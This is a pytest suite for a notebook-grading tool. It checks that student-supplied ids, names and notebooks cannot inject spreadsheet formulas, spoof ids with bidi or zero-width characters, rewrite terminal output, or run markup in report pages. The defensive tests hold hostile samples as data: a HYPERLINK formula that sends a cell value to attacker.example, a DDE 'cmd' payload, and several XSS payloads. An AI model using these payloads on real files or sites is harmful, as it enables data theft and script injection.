"""One learner cannot fool the instructor through the strings they choose: each writer and reader, hostile strings.

Unit tests, each well under a second (the gradebook ones: nbgrader's sqlite, ~1 s): every CSV cell a learner
reaches is never a formula, ids and roster names a person could not tell apart are refused, and what the
terminal shows is printable. The class run and the browser are in tests/e2e/test_hostile_outputs.py.
"""

from __future__ import annotations

import csv
import datetime
import json
import os
import unicodedata
import zipfile
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from course_grade.course import Course, use_this_environment
from course_grade.intake.submissions import student_id_problem, take_in
from course_grade.notebooks import MAX_NOTEBOOK_BYTES
from course_grade.notes import Note
from course_grade.progress import Progress
from course_grade.report.analytics import cell_statistics
from course_grade.report.class_grades import Assignment, CellScore, ClassGrades, Question, Student, Submission
from course_grade.report.exports import write_canvas, write_moodle, write_per_question
from course_grade.report.feedback import finish, notes_panel, page_without_notebook
from course_grade.report.grades_csv import export_csv
from course_grade.report.page import Report, render_page
from course_grade.report.roster import Entry, RosterError, read_roster
from course_grade.report.safe_html import POLICY, POLICY_META, clean, clean_feedback
from course_grade.report.similarity import Pair, html_report, review_class, review_notebook
from course_grade.report.summary import Outcome, render_summary
from course_grade.untrusted import csv_cell, id_problem, printable

ROOT = Path(__file__).resolve().parents[2]

FORMULAS = [
    "=2+3",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]
"""Cells a spreadsheet would run as formulas (OWASP "CSV Injection")."""

NUMBERS = ["0", "17", "16.5", "-3", "-0.25", "+4", "1e3", "2026-11-01 12:00:00"]
"""Cells that start like a formula, or not, but are numbers (or dates): left as they are."""

BIDI = "\u202egnp.exe"
"""Reads as "exe.png" in a bidi-aware view."""

ZERO_WIDTH = "ali\u200bce"
"""Looks like "alice"."""

ESCAPE = "\x1b[1A\x1b[2Kall fine"
"""Moves the cursor up and erases the line above it (say, a "POSSIBLE TAMPERING" line)."""


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell not in NUMBERS


@pytest.mark.parametrize("value", FORMULAS)
def test_a_would_be_formula_gets_a_leading_quote(value: str) -> None:
    cell = csv_cell(value)
    assert cell.startswith("'") and not _formula(cell)


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_stays_a_number(value: str) -> None:
    assert csv_cell(value) == value


def test_a_cell_shows_no_control_or_format_character() -> None:
    assert csv_cell(BIDI) == "\\u202egnp.exe" and csv_cell("a\nb") == "a\\nb"


def _all_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _hostile_gradebook(folder: Path) -> str:
    """A gradebook whose student ids and names are formulas; its URL."""
    use_this_environment()  # nbgrader runs `alembic` from PATH to create a gradebook
    url = f"sqlite:///{folder / 'gradebook.db'}"
    with Gradebook(url) as gradebook:
        gradebook.add_assignment("a1", duedate=datetime.datetime(2026, 11, 1))
        gradebook.add_notebook("nb", "a1")
        gradebook.add_grade_cell("q1", "nb", "a1", max_score=1.0, cell_type="code")
        gradebook.add_student("=2+3", first_name="+1+1", last_name="@SUM(A1)", email="-2+3@x")
        gradebook.add_student("honest", first_name="Ann", last_name="Lee", email="ann@example.org")
        for student in ("=2+3", "honest"):
            gradebook.add_submission("a1", student, timestamp=datetime.datetime(2026, 10, 1))
    return url


def test_grades_csv_holds_no_formula(tmp_path: Path) -> None:
    url = _hostile_gradebook(tmp_path)
    review = {("=2+3", "a1"): '=HYPERLINK("http://x","y")', ("honest", "a1"): ""}
    export_csv(url, "default_course", tmp_path / "grades.csv", ["a1"], review)
    cells = _all_cells(tmp_path / "grades.csv")
    assert "'=2+3" in cells and "'+1+1" in cells and "'@SUM(A1)" in cells
    assert not [cell for cell in cells if _formula(cell)]


def _class() -> ClassGrades:
    """A class of one hostile student (formula id and names) and one honest one."""
    students = (Student("=2+3", "+1+1", "@SUM(A1)", "-x@y"), Student("honest", "Ann", "Lee", "a@b"))
    return ClassGrades(
        assignments=(Assignment("a1", 1.0, None, (Question("nb", "q1", 1.0),)),),
        students=students,
        submissions=tuple(Submission(s.id, "a1", 1.0, 1.0, 0.0) for s in students),
        cells=tuple(CellScore(s.id, "a1", "nb", "q1", 1.0, 1.0) for s in students),
    )


ROSTER = [
    Entry("=2+3", name="=HYPERLINK(\"http://x\",\"y\")", canvas_id="+1+1", sis_user_id="@SUM(A1)",
          sis_login_id="-1+2", section="\t=1+1", id_number="=1"),
    Entry("honest", name="Lee, Ann", canvas_id="12", first_name="Ann", last_name="Lee", email="a@b"),
]  # fmt: skip


@pytest.mark.parametrize("writer", [write_canvas, write_moodle])
def test_platform_files_hold_no_formula(writer: object, tmp_path: Path) -> None:
    path = tmp_path / "platform.csv"
    writer(path, _class(), ROSTER)  # type: ignore[operator]
    cells = _all_cells(path)
    assert not [cell for cell in cells if _formula(cell)], cells
    assert any(cell.startswith("'") for cell in cells)


def test_the_per_question_file_holds_no_formula(tmp_path: Path) -> None:
    write_per_question(tmp_path / "per_question.csv", _class().cells)
    cells = _all_cells(tmp_path / "per_question.csv")
    assert "'=2+3" in cells and not [cell for cell in cells if _formula(cell)]


def test_every_csv_of_the_course_is_written_by_the_one_writer() -> None:
    direct = [
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "course_grade").rglob("*.py"))
        if path.name != "untrusted.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert direct == [], "write CSV with course_grade.untrusted.CsvWriter"


@pytest.mark.parametrize("student", ["=2+3", "+1", "-rf", "@SUM(A1)"])
def test_an_id_a_spreadsheet_reads_as_a_formula_is_refused_at_intake(student: str) -> None:
    assert student_id_problem(student) is not None


@pytest.mark.parametrize("student", ["Zoë O'Brien, Jr. [2]*", "s-1", "ann.lee@example.org", "12345"])
def test_an_odd_but_honest_id_is_taken(student: str) -> None:
    assert student_id_problem(student) is None


# Guarantee 3: ids a person can tell apart.

UNTELLABLE = [BIDI, ZERO_WIDTH, "ann\u2066", "bob\u00ad", "eve\ufeff"]
"""Ids that read as another (a bidi override, a zero-width space, an isolate, a soft hyphen, a BOM)."""


@pytest.mark.parametrize("student", UNTELLABLE)
def test_an_id_with_a_format_character_is_refused_at_intake(student: str) -> None:
    problem = student_id_problem(student)
    assert problem is not None and "format" in problem


@pytest.mark.parametrize("field", ["student_id", "name", "first_name", "last_name", "email"])
def test_a_roster_name_with_a_format_character_is_refused(field: str, tmp_path: Path) -> None:
    values = {"student_id": "s1", "name": "One, Sam", "first_name": "Sam", "last_name": "One", "email": "s@x"}
    values[field] = BIDI
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(values))
        writer.writeheader()
        writer.writerow(values)
    with pytest.raises(RosterError, match=r"line 2.*U\+202E"):
        read_roster(roster)


def _review_page(student: str, text: str) -> str:
    """report.html for a class holding `student`, flagged for review with `text`."""
    grades = _class()
    stats = cell_statistics(grades.cells)
    return render_page(Report("course", grades, stats, (), {(student, "a1"): text}))


def test_report_html_shows_an_id_it_could_not_refuse_escaped() -> None:
    page = _review_page(ZERO_WIDTH, f"similar to {BIDI} (100%)")
    assert "\u200b" not in page and "\u202e" not in page
    assert "ali\\u200bce" in page and "\\u202egnp.exe" in page


def test_the_similarity_page_shows_ids_escaped() -> None:
    page = html_report("a1", [Pair(ZERO_WIDTH, BIDI, 1.0)])
    assert "\u200b" not in page and "\u202e" not in page and "ali\\u200bce" in page


def test_the_feedback_notes_show_names_escaped() -> None:
    panel = notes_panel([Note("renamed", f"{BIDI}.ipynb is not a notebook of this assignment")])
    assert "\u202e" not in panel and "\\u202egnp.exe.ipynb" in panel


# Guarantee 6: the terminal shows only printable text.


def test_printable_escapes_controls_format_characters_and_surrogates() -> None:
    assert printable(ESCAPE) == "\\x1b[1A\\x1b[2Kall fine"
    assert printable("a\nb\u202ec\udcff") == "a\\nb\\u202ec\\udcff"
    assert printable("Zoë O'Brien, Jr. [2]*") == "Zoë O'Brien, Jr. [2]*"


def test_id_problem_names_the_characters() -> None:
    assert id_problem("alice") is None
    assert "U+200B ZERO WIDTH SPACE" in str(id_problem(ZERO_WIDTH))


def _terminal_safe(text: str) -> bool:
    """No control character but the newlines between lines, nothing a UTF-8 terminal cannot print."""
    text.encode("utf-8")  # a lone surrogate (a file name that is not UTF-8) would raise here
    return not [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def test_the_summary_prints_learners_strings_escaped() -> None:
    notes = (
        Note("renamed", f"{ESCAPE}.ipynb is not a notebook of this assignment"),
        Note("wrote-files", "wrote fake\nPOSSIBLE TAMPERING in 0 submissions\nstray-\udcff.bin"),
    )
    outcome = Outcome("mallory", "01_envelope", 0.0, 6.0, notes, 1)
    summary = render_summary([outcome], [f"{ESCAPE}: contains control characters"])
    assert _terminal_safe(summary)
    assert "\\x1b[1A\\x1b[2Kall fine.ipynb" in summary
    assert not [line for line in summary.splitlines() if line.startswith("POSSIBLE TAMPERING")]


def test_progress_lines_are_printed_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    lines: list[str] = []
    with Progress(1, lines.append, terminal=False) as progress:
        progress.graded(f"[1/1] 01_envelope  {ESCAPE}", failed=False)
    with Progress(1, print, terminal=True) as progress:
        progress.graded(f"[1/1] 01_envelope  {ESCAPE}", failed=False)
    assert lines == ["[1/1] 01_envelope  \\x1b[1A\\x1b[2Kall fine"]
    assert "\\x1b[1A" in capsys.readouterr().out


def test_every_line_course_grade_prints_is_printable(capsys: pytest.CaptureFixture[str]) -> None:
    from course_grade.cli import terminal  # the sink of every line the command prints

    terminal(f"similar [01_envelope]: {ESCAPE} ~ bob (100%)\nstray-\udcff.ipynb")
    out = capsys.readouterr().out
    assert _terminal_safe(out) and "\\x1b[1A" in out and "\\udcff" in out


# Guarantee 1: no learner markup runs (the browser run is in tests/e2e/test_hostile_outputs.py).

MARKUP = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '<a href="javascript:window.__pwned=1">x</a>',
    '<a href="  JaVaScRiPt:window.__pwned=1">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload="window.__pwned=1"><circle r="5"/></svg>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<style>.grading-notes{display:none}</style>",
    "<div class='modal navbar-fixed-top hidden' style='position:fixed'>x</div>",
    "<object data='x.swf'></object><embed src='x'><base href='http://x.example/'>",
]


@pytest.mark.parametrize("markup", MARKUP)
def test_the_sanitiser_keeps_nothing_that_runs_or_overlays(markup: str) -> None:
    cleaned = clean(markup).lower()
    for needle in ("<script", "onerror", "onload", "javascript:", "data:", "<iframe", "<svg", "<form", "<meta",
                   "<style", "style=", "modal", "fixed", "hidden", "<object", "<embed", "<base"):  # fmt: skip
        assert needle not in cleaned, (markup, cleaned)


def test_the_sanitiser_keeps_what_nbconvert_writes() -> None:
    markup = (
        '<div class="cell border-box-sizing text_cell rendered"><div class="inner_cell">'
        '<div class="text_cell_render border-box-sizing rendered_html"><h2 id="Parse">Parse</h2>'
        '<p>See <a href="https://example.org/doc">the docs</a> and <code>f(x)</code>.</p></div></div></div>'
        '<div class="highlight hl-ipython3"><pre><span class="k">def</span> <span class="nf">f</span></pre></div>'
    )
    assert clean(markup) == markup


def _nbgrader_page(notebook: str) -> str:
    return (
        '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8" />\n<title>nb</title>\n'
        '<script src="https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/latest.js"> </script>\n'
        "<style>body { color: black }</style>\n</head>\n<body>\n"
        '<div class="container"><div class="panel-heading"><h4>nb (Score: 1.0 / 2.0)</h4></div>'
        f'<div class="container" id="notebook-container">{notebook}</div></div>\n</body>\n</html>\n'
    )


def test_a_feedback_page_keeps_its_layout_and_loses_the_learners_markup() -> None:
    page = clean_feedback(_nbgrader_page("<p>mine</p>" + "".join(MARKUP)))
    assert page.index(POLICY_META) < page.index("<title>") and "<style>body { color: black }</style>" in page
    assert "<h4>nb (Score: 1.0 / 2.0)</h4>" in page and "<p>mine</p>" in page
    assert "<script" not in page and "onerror" not in page and "javascript:" not in page
    assert clean_feedback(page) == page  # a page finished twice (a rerun) is the same page


def test_every_page_the_course_writes_carries_the_policy(tmp_path: Path) -> None:
    assert "script-src 'none'" in POLICY and "default-src 'none'" in POLICY
    pages = {
        "report": _review_page("honest", ""),
        "similarity": html_report("a1", []),
        "feedback without a notebook": page_without_notebook("nb", 0.0, 1.0, [Note("missing", "x")]),
    }
    (tmp_path / "nb.html").write_text(_nbgrader_page("<p>mine</p>"))
    finish(tmp_path, [("nb", 1.0, 2.0)], [Note("flagged", "look")])
    pages["feedback"] = (tmp_path / "nb.html").read_text()
    for kind, page in pages.items():
        assert page.count(POLICY_META) == 1, kind
        assert page.index(POLICY_META) < page.index("<title>"), kind  # before anything it governs


# Guarantee 4: the review reads only what grading read.


def _notebook(code: str) -> str:
    cell = {"cell_type": "code", "metadata": {"nbgrader": {"solution": True}}, "source": code, "outputs": []}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


HOSTILE_NOTEBOOKS = {
    "link": "is a symbolic link",
    "device": "is a symbolic link",
    "fifo": "is not a regular file",
    "deep": "could not be read (RecursionError)",
    "huge": f"is larger than {MAX_NOTEBOOK_BYTES:,} bytes",
    "odd-cells": "could not be read (AttributeError)",
    "latin1": "could not be read (UnicodeDecodeError)",
}
"""A submitted notebook -> why the review leaves it out."""


def _hostile_notebook(kind: str, path: Path, honest: Path) -> None:
    if kind == "link":
        path.symlink_to(honest)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(path)  # opening it to read would block a reader that does not know
    elif kind == "deep":
        path.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    elif kind == "huge":
        with open(path, "wb") as handle:
            handle.truncate(MAX_NOTEBOOK_BYTES + 1)  # sparse: no disk used
    elif kind == "odd-cells":
        path.write_text(json.dumps({"cells": [{"cell_type": "code", "metadata": ["not", "a", "dict"]}]}))
    else:
        path.write_bytes(b'{"cells": [], "metadata": {"author": "caf\xe9"}}')  # Latin-1, not UTF-8


@pytest.mark.parametrize("kind", sorted(HOSTILE_NOTEBOOKS))
def test_the_review_leaves_out_what_grading_would_not_read(kind: str, tmp_path: Path) -> None:
    honest = tmp_path / "honest.ipynb"
    honest.write_text(_notebook("def f(x):\n    return x\n"))
    _hostile_notebook(kind, tmp_path / "nb.ipynb", honest)
    notebook, problem = review_notebook(tmp_path / "nb.ipynb")
    assert notebook == {"cells": []} and problem == HOSTILE_NOTEBOOKS[kind]
    assert review_notebook(honest) == (json.loads(honest.read_text()), None)


def test_a_class_review_flags_no_classmate_of_a_linked_or_broken_notebook(tmp_path: Path) -> None:
    solution = "def parse(text):\n" + "".join(
        f"    step_{i} = len(text) * {i} + {i * i}\n" for i in range(30)
    )
    (tmp_path / "source" / "a1").mkdir(parents=True)
    (tmp_path / "source" / "a1" / "nb.ipynb").write_text(
        _notebook("def parse(text):\n    raise NotImplementedError\n")
    )
    for student in ("honest", "linker", "deep", "stray"):
        (tmp_path / "submitted" / student / "a1").mkdir(parents=True)
    honest = tmp_path / "submitted" / "honest" / "a1" / "nb.ipynb"
    honest.write_text(_notebook(solution))
    (tmp_path / "submitted" / "linker" / "a1" / "nb.ipynb").symlink_to("../../honest/a1/nb.ipynb")
    _hostile_notebook("deep", tmp_path / "submitted" / "deep" / "a1" / "nb.ipynb", honest)
    (tmp_path / "submitted" / "stray" / "a1" / "copy.ipynb").write_text(_notebook(solution))  # not graded
    (tmp_path / "submitted" / "stray" / "a1" / "nb.ipynb").write_text(
        _notebook("def parse(text):\n    return 1\n")
    )
    pairs, notes, _ = review_class(tmp_path, "a1", ["honest", "linker", "deep", "stray"])
    assert [pair for pair in pairs if {pair.student, pair.other} & {"linker", "deep", "stray"}] == []
    assert notes["linker"] == ["nb.ipynb left out of the similarity review: it is a symbolic link"]
    assert notes["deep"] == [
        "nb.ipynb left out of the similarity review: it could not be read (RecursionError)"
    ]
    assert "stray" not in notes and not any("linker" in n or "stray" in n for n in notes.get("honest", []))


# Guarantee 5: one learner can never stop the class.


def test_feedback_is_written_when_a_note_names_a_file_that_is_not_utf8(tmp_path: Path) -> None:
    stray = os.fsdecode(b"stray-\xff.ipynb")  # as Python reads a file name that is not UTF-8
    (tmp_path / "nb.html").write_text(_nbgrader_page("<p>mine</p>"))
    notes = [Note("renamed", f"{stray} is not a notebook of this assignment and was not graded.")]
    finish(tmp_path, [("nb", 1.0, 2.0), ("other", 0.0, 1.0)], notes)
    for page in ("nb.html", "other.html"):
        assert "stray-\\udcff.ipynb" in (tmp_path / page).read_text(encoding="utf-8")


def test_a_zip_nbgrader_refuses_is_skipped_with_its_reason_and_the_class_goes_on(tmp_path: Path) -> None:
    from tests.support.grading_helpers import fresh_course

    root = fresh_course(tmp_path)
    course = Course(root, f"sqlite:///{root / 'gradebook.db'}", "default_course")
    zips = tmp_path / "zips"
    zips.mkdir()
    notebook = _notebook("x = 1")
    with zipfile.ZipFile(zips / "ann.zip", "w") as archive:
        archive.writestr("01_envelope/01_envelope.ipynb", notebook)
    with zipfile.ZipFile(zips / "mallory.zip", "w") as archive:  # a file and a folder of one name
        archive.writestr("01_envelope", "a file named as the folder")
        archive.writestr("01_envelope/01_envelope.ipynb", notebook)
    with zipfile.ZipFile(zips / "ann.tar.zip", "w") as archive:  # nbgrader would extract it as `ann`
        archive.writestr("01_envelope/01_envelope.ipynb", _notebook("x = 2"))
    intake = take_in(course, zips, ["01_envelope"])
    assert intake.submissions == [("ann", "01_envelope")]
    assert json.loads(
        (root / "submitted" / "ann" / "01_envelope" / "01_envelope.ipynb").read_text()
    ) == json.loads(notebook)
    skipped = "\n".join(intake.skipped)
    assert "mallory.zip: nbgrader's zip_collect refuses it (" in skipped and "File exists" in skipped
    assert "ann.tar.zip: nbgrader would take it in as 'ann'" in skipped
